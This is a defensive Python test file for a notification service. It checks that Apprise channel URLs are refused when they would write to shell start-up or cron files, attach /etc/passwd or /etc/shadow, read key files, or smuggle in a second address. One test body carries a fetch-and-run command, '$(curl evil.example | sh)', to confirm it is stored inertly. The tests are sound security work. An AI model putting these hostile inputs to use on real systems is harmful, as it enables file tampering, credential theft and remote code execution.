"""A channel never reads or writes the server's files or runs anything: the refused URLs (from
Apprise's own source, see guardian/channels.py), console:// and its one file, and the sender
refusing such a URL even when it was stored before the rule."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

import pytest

from guardian.channels import CONSOLE_FILE, refusal
from guardian.delivery import MISCONFIGURED, SUCCESS, AppriseSender, Message
from tests.conftest import Receiver

SAFE = [
    "ntfy://a-long-unguessable-topic",
    "ntfys://mia:pw@ntfy.example.org/mia-topic?priority=high",
    "json://127.0.0.1:9/mia",
    "mailtos://user:password@example.org?to=mia@example.org",
    "tgram://123456789:abcdefg_hijklmnop/12315544",
    "pover://userkeyuserkeyuserkeyuserkeyus@apptokenapptokenapptokenappt",
    "discord://123456/abcdefg",
    # Commas inside one URL's parameters are not a second address.
    "mailtos://user:password@example.org?to=mia@example.org,sam@example.org",
    # A WhatsApp template is a name at Meta, not a file here.
    "whatsapp://token@1234567890/31612345678?template=hello_world",
    "ntfy://topic?click=https://example.org/",
    "console://",
    f"console://?file={CONSOLE_FILE}",
]

REFUSED = [
    # The issue: console:// appended every delivery to any path, as the service user.
    ("console://?file=/home/guardian/.bashrc", "console:// writes only to var/deliveries.log"),
    ("console://?file=var/../.profile", "console:// writes only to var/deliveries.log"),
    ("console://?FILE=/etc/cron.d/x", "console:// writes only to var/deliveries.log"),
    (f"console://?file={CONSOLE_FILE}&mode=a", "console:// writes only to var/deliveries.log"),
    # Services that act on the server itself.
    ("macosx://", "macosx:// runs a program on the server"),
    ("syslog://", "syslog:// writes to the server's system log"),
    ("dbus://", "dbus:// notifies the server's own desktop"),
    ("kde://", "kde:// notifies the server's own desktop"),
    ("gnome://", "gnome:// notifies the server's own desktop"),
    ("glib://", "glib:// notifies the server's own desktop"),
    ("windows://", "windows:// notifies the server's own desktop"),
    ("blink1://", "blink1:// drives a device plugged into the server"),
    # Parameters that name a file for Apprise to read (or write).
    ("discord://123456/abcdefg?template=/etc/passwd", "template= names a file on the server"),
    (
        "https://discord.com/api/webhooks/123456/abcdefg?template=payload.json",
        "template= names a file on the server",
    ),
    ("guilded://123456/abcdefg?template=t.json", "template= names a file on the server"),
    (
        "slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ?template=a.json",
        "template= names a file on the server",
    ),
    (
        "tgram://123456789:abcdefg_hijklmnop/12315544?Template=t.json",
        "template= names a file on the server",
    ),
    ("workflow://host:443/wf/sig?template=x.json", "template= names a file on the server"),
    ("mailtos://u:p@example.org?to=a@b.c&pgppub=/k.asc", "pgppub= names a file on the server"),
    ("mailto://u:p@example.org?pgpprv=k.asc", "pgpprv= names a file on the server"),
    ("fcm://project@/device/?keyfile=/srv/key.json", "keyfile= names a file on the server"),
    ("vapid://user@example.com/sub?keyfile=k.pem", "keyfile= names a file on the server"),
    ("vapid://user@example.com/sub?subfile=s.json", "subfile= names a file on the server"),
    # Attachments, and file:// anywhere.
    ("ntfy://topic?attach=file:///etc/passwd", "attach= adds attachments"),
    ("ntfy://topic?attach=https://example.org/x.png", "attach= adds attachments"),
    ("json://127.0.0.1:9/x?file=%2Fetc%2Fshadow", "file= adds attachments"),
    ("ntfy://topic?click=file:///etc/passwd", "click= is a file:// URL"),
    # Apprise also splits parameters on `;`.
    ("ntfy://topic?x=1;attach=/etc/passwd", "attach= adds attachments"),
    # Apprise.add reads a string as a list of URLs (apprise.utils.parse.parse_urls splits on
    # commas and spaces before a scheme): one channel must not smuggle in a second service.
    ("json://127.0.0.1:9/mia, syslog://", "a channel is one address"),
    ("json://127.0.0.1:9/mia syslog://", "a channel is one address"),
    ("ntfy://topic,ntfy://other", "a channel is one address"),
]


@pytest.mark.parametrize("url", SAFE)
def test_a_channel_that_reaches_a_person_is_accepted(url: str) -> None:
    assert refusal(url) is None


@pytest.mark.parametrize(("url", "reason"), REFUSED)
def test_a_channel_that_touches_the_server_is_refused_with_its_reason(
    url: str, reason: str
) -> None:
    refused = refusal(url)
    assert refused is not None and refused.startswith(reason), refused
    # The reason names the scheme and the parameter, never the value (it may be a secret).
    assert "passwd" not in refused and "/srv/key" not in refused


async def test_console_writes_only_to_its_one_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    target = tmp_path / "home" / ".bashrc"
    target.parent.mkdir()
    target.write_text("# the service user's shell start-up file\n")
    sender = AppriseSender(timeout=timedelta(seconds=5))
    message = Message("Sophie (sms)", "$(curl evil.example | sh)")

    refused = await sender.send(f"console://?file={target}", message)
    assert refused.status == MISCONFIGURED
    assert refused.detail.startswith("refused: console:// writes only to var/deliveries.log")
    assert target.read_text() == "# the service user's shell start-up file\n"

    assert (await sender.send(f"console://?file={CONSOLE_FILE}", message)).status == SUCCESS
    assert (
        tmp_path / CONSOLE_FILE
    ).read_text() == "── Sophie (sms) ──\n$(curl evil.example | sh)\n\n"
    assert (await sender.send("console://", message)).status == SUCCESS  # prints only
    assert sorted(p.name for p in tmp_path.iterdir()) == ["home", "var"]


async def test_a_refused_channel_stored_before_the_rule_is_never_sent_to(
    receiver: Receiver,
) -> None:
    sender = AppriseSender(timeout=timedelta(seconds=5))
    stored = receiver.channel("x") + "?attach=file:///etc/passwd"
    result = await sender.send(stored, Message("title", "body"))
    assert (result.status, result.detail) == (
        MISCONFIGURED,
        "refused: attach= adds attachments: a channel sends messages, never files",
    )
    assert receiver.received == []


async def test_a_stored_channel_with_a_second_address_is_never_sent_to(
    receiver: Receiver,
) -> None:
    """Apprise.add would have sent to both addresses, the second never checked."""
    sender = AppriseSender(timeout=timedelta(seconds=5))
    stored = f"{receiver.channel('mia')}, {receiver.channel('other')}"
    result = await sender.send(stored, Message("title", "body"))
    assert (result.status, result.detail) == (
        MISCONFIGURED,
        "refused: a channel is one address: give each address its own channel",
    )
    assert receiver.received == []
